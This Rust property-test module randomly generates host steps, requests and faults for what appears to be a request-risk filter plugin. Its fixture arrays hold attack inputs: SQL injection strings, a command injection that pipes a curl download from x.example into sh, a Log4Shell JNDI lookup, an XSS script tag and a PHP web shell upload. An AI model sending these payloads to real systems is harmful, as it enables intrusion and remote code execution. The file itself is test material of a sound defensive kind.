//! What may a host do? Steps, most of them out of order, and the pieces that they are made of.

use fake_host::host::Fault;
use proptest::prelude::*;

pub(crate) const PATHS: &[&str] = &[
    "/",
    "/search?q=1'%20UNION%20SELECT%20password%20FROM%20users--",
    "/run?c=%3Bcurl%20http://x.example/s%7Csh",
    "/log?x=$%7Bjndi:ldap://x.example/a%7D",
    "/?t=user-risk-filter-test",
    "/login",
    "/.user-risk/incidents",
    "/.user-risk/user?user=mallory",
];
pub(crate) const BODIES: &[&str] = &[
    "",
    "a=1&b=two",
    "q=%27%20OR%201=1--%20&x=<script>alert(1)</script>",
    r#"{"q":["' UNION SELECT a FROM b--"]}"#,
    "--b\r\ncontent-disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\n<?php system($_GET[1]);\r\n--b--",
];
pub(crate) const TYPES: &[&str] =
    &["application/x-www-form-urlencoded", "application/json", "multipart/form-data; boundary=b", "?"];
pub(crate) const USERS: &[&str] = &["alice", "mallory", "bob", ""];

/// One thing that the host does.
#[derive(Clone, Debug)]
pub(crate) enum Step {
    /// A callback of an exchange, for one of a few contexts: its number in `PHASES`.
    Phase {
        context: u32,
        phase: usize,
        body: usize,
        last: bool,
    },
    /// What the next exchanges' requests look like.
    Request {
        path: usize,
        user: usize,
        content_type: usize,
        trailers: bool,
    },
    /// What the next answers look like.
    Answer {
        status: u16,
        events: bool,
    },
    /// A whole exchange as it should be.
    Whole,
    Tick {
        generation: usize,
    },
    /// The answer to a callout that was sent, or to none; no status is a reset.
    Answered {
        at: usize,
        known: bool,
        status: Option<u16>,
    },
    Advance(u64),
    Fail(Fault),
    /// A new configuration, while the old one goes on, or the end of the old one.
    Reload,
    DropRoot {
        generation: usize,
    },
}

pub(crate) fn step() -> impl Strategy<Value = Step> {
    let status = prop_oneof![Just(200u16), Just(302), Just(401), Just(403), Just(404), Just(500), Just(503)];
    // None by which a server refuses a message for good.
    let reply = prop_oneof![Just(200u16), Just(429), Just(500), Just(503)];
    let fault = (
        0u32..12,
        1u32..6,
        prop_oneof![Just(1u32), Just(2), Just(3), Just(6), Just(7), Just(8), Just(10), Just(12), Just(99)],
    );
    prop_oneof![
        12 => (1u32..7, 0..PHASES, 0..BODIES.len(), any::<bool>())
            .prop_map(|(context, phase, body, last)| Step::Phase { context, phase, body, last }),
        3 => (0..PATHS.len(), 0..USERS.len(), 0..TYPES.len(), any::<bool>())
            .prop_map(|(path, user, content_type, trailers)| Step::Request { path, user, content_type, trailers }),
        1 => (status, any::<bool>()).prop_map(|(status, events)| Step::Answer { status, events }),
        2 => Just(Step::Whole),
        2 => (0usize..3).prop_map(|generation| Step::Tick { generation }),
        2 => (0usize..4, any::<bool>(), prop::option::of(reply))
            .prop_map(|(at, known, status)| Step::Answered { at, known, status }),
        1 => (0u64..1500).prop_map(Step::Advance),
        1 => fault.prop_map(|(after, calls, status)| Step::Fail(Fault { after, calls, status })),
        1 => Just(Step::Reload),
        1 => (0usize..3).prop_map(|generation| Step::DropRoot { generation }),
    ]
}

/// The callbacks of an exchange.
pub(crate) const PHASES: usize = 9;
